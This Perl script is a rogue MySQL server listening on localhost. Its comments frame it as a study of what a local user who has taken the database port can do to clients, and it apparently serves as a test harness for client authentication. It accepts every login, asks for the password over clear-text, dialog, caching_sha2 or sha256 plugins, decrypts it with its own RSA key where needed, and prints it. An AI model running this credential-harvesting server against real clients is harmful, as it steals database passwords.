#!/usr/bin/perl
# A database server that is none: what another user of this machine, who has taken the port, can do to a client.
# It listens on 127.0.0.1, takes one client after another, and lets everybody in. What a client gets is chosen by
# the name of its user:
#
#   native    asks for a scramble, as a server should
#   clear     asks for the password by mysql_clear_password
#   dialog    asks for it by dialog
#   caching   asks for it by caching_sha2_password: over TLS as it is, else encrypted with a key of its own
#   sha256    the same by sha256_password
#
#   rogue.pl NAME [tls]    NAME.key and NAME.pem are its key and its certificate; tls: it offers TLS
#
# It prints "port N", then for each client "client USER", "tls" where the client began that, and "password TEXT" where it got one.
use strict;
use warnings;
use IO::Socket::INET;

my ($name, $tls) = @ARGV;
my $salt = 'abcdefghijklmnopqrst';
my %plugin = (clear => 'mysql_clear_password', dialog => 'dialog', caching => 'caching_sha2_password', sha256 => 'sha256_password');
my ($client, $sequence, $encrypted);

$| = 1;
$SIG{PIPE} = 'IGNORE';
my $listener = IO::Socket::INET->new(LocalAddr => '127.0.0.1', Listen => 5) or die "listen: $!";
print 'port ', $listener->sockport, "\n";
while ($client = $listener->accept) {
	my $user = greet();

	serve() if defined $user && let_in($user);
	close $client;
}

# The greeting and the login. Returns the name of the user.
sub greet {
	# long password, connect with database, protocol 4.1, transactions, secure connection, plugins for authentication; TLS
	my $capabilities = 0x1 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x80000 | (defined $tls ? 0x800 : 0);

	($sequence, $encrypted) = (0, 0);
	put("\x0a8.0.36\0" . pack('V', 7) . substr($salt, 0, 8) . "\0" . pack('v', $capabilities & 0xffff) . chr(45) . pack('v', 2) .
		pack('v', $capabilities >> 16) . chr(21) . "\0" x 10 . substr($salt, 8) . "\0mysql_native_password\0");
	my $login = get();
	if (defined $login && length $login == 32) {
		require IO::Socket::SSL;
		IO::Socket::SSL->start_SSL($client, SSL_server => 1, SSL_cert_file => "$name.pem", SSL_key_file => "$name.key") or return undef;
		print "tls\n";
		$encrypted = 1;
		$login = get();
	}
	return undef unless defined $login && length $login > 32;
	my ($user) = unpack('x32 Z*', $login);
	print "client $user\n";
	return $user;
}

# Gets what it can of the password.
sub let_in {
	my ($user) = @_;
	my $method = $plugin{$user};
	my $answer;

	if (defined $method) {
		put("\xfe$method\0" . ($user eq 'dialog' ? "\x05Password: " : $user eq 'clear' ? '' : $salt) . "\0");
		return 0 unless defined($answer = get());
		if ($user eq 'caching') {
			put("\x01\x04"); # "not in my cache: the whole password"
			return 0 unless defined($answer = get());
		}
		if (!$encrypted && ($answer eq "\x01" || $answer eq "\x02")) {
			put("\x01" . `openssl pkey -in $name.key -pubout`);
			return 0 unless defined($answer = get());
			$answer = decrypted($answer);
		}
		$answer =~ s/\0.*//s;
		print "password $answer\n";
	}
	put("\0\0\0\2\0\0\0");
	return 1;
}

sub decrypted {
	my ($bytes) = @_;

	open(my $file, '>', "$name.secret") or die $!;
	print $file $bytes;
	close $file;
	my $plain = `openssl pkeyutl -decrypt -inkey $name.key -in $name.secret -pkeyopt rsa_padding_mode:oaep 2>/dev/null`;
	return $plain ^ substr($salt x 20, 0, length $plain);
}

# Each statement is well.
sub serve {
	while (defined(my $statement = get())) {
		last if $statement =~ /^\x01/;
		put("\0\0\0\2\0\0\0");
	}
}

sub get {
	my $head = take(4);
	my ($low, $high, $number) = unpack('vCC', defined $head ? $head : return undef);

	$sequence = $number + 1 & 255;
	return take($low | $high << 16);
}

sub take {
	my ($size) = @_;
	my $bytes = '';

	while (length $bytes < $size) {
		sysread($client, $bytes, $size - length $bytes, length $bytes) or return undef;
	}
	return $bytes;
}

sub put {
	my ($body) = @_;

	syswrite($client, pack('vCC', length($body) & 0xffff, length($body) >> 16, $sequence) . $body);
	$sequence = $sequence + 1 & 255;
}
